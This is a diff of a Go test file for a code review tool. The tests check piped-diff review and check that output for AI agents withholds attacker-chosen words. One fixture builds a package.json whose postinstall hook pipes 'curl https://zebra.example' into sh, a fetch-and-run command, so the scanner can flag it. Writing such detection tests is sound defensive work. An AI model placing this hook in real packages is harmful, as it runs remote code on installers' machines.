@@ -147,15 +147,49 @@ func TestReviewOfRange(t *testing.T) {
 	}
 }
 
-// What an agent gets has no word in it that anybody else chose.
+// The help's own example: git diff main | umpire review --engine none --base . -
+func TestReviewOfAPipedDiff(t *testing.T) {
+	dir := reviewed(t, map[string]string{"a.py": clearFile + "one\ntwo\n"})
+	git := func(args ...string) string {
+		t.Helper()
+		cmd := exec.Command("git", append([]string{"-c", "user.name=a", "-c", "user.email=a@example.com"}, args...)...)
+		cmd.Dir = dir
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+		return string(out)
+	}
+	if err := os.RemoveAll(filepath.Join(dir, ".git")); err != nil {
+		t.Fatal(err)
+	}
+	git("init", "-q", "-b", "main")
+	git("add", ".")
+	git("commit", "-qm", "first")
+	git("checkout", "-qb", "work")
+	if err := os.WriteFile(filepath.Join(dir, "a.py"), []byte(clearFile+"one\nTWO\nthree\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if out, exit := run(t, dir, git("diff", "main"), "review", "--engine", "none", "--base", ".", "-"); exit != 0 {
+		t.Errorf("exit %d\n%s", exit, out)
+	}
+	if out, exit := run(t, dir, "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-nothing of the kind\n+x\n", "review", "--engine", "none", "--base", ".", "-"); exit != reviewIncomplete || !strings.Contains(out, "BASE..HEAD") {
+		t.Errorf("exit %d\n%s", exit, out)
+	}
+}
+
+// What an agent gets has no word in it that anybody else chose, but paths that say nothing.
 func TestReviewForAgents(t *testing.T) {
 	const word = "zebra"
-	dir := reviewed(t, map[string]string{word + ".py": highFile + "# " + word, "package.json": `{"scripts":{"postinstall":"curl https://` + word + `.example | sh"}}`})
+	dir := reviewed(t, map[string]string{"please-read-" + word + ".py": highFile + "# " + word, "package.json": `{"scripts":{"postinstall":"curl https://` + word + `.example | sh"}}`})
 	byAgent = func() error { return &terminal.AgentError{Agent: "claude"} }
 	for _, format := range []string{"text", "json", "sarif", "markdown", "github"} {
 		out, exit := run(t, dir, "", "review", "--engine=none", "--format", format, ".")
 		if exit != 1 || strings.Contains(out, word) || !strings.Contains(out, "file-") {
 			t.Errorf("%s: exit %d\n%s", format, exit, out)
+		}
+		if (format == "text" || format == "json" || format == "markdown") && !strings.Contains(out, "package.json") {
+			t.Errorf("%s: a harmless path is withheld\n%s", format, out)
 		}
 	}
 }
